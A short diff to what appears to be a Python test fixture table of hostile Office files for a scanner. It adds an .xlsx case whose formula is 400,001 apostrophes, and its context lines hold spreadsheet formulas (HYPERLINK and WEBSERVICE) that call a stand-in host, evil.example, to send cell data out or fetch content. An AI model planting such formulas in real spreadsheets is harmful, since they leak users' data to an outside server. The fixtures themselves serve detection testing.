@@ -542,6 +542,7 @@ OFFICE_FILES: Final[Mapping[str, tuple[str, Make, str]]] = {
         _formula("HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1)"),
         "link-inside",
     ),
+    "formula-of-quotation-marks": ("a.xlsx", _formula("&apos;" * 400_001), "active-content"),
     "formula-in-a-name": (
         "a.xlsx",
         _name('name="x"', "WEBSERVICE(&quot;https://evil.example/&quot;)"),
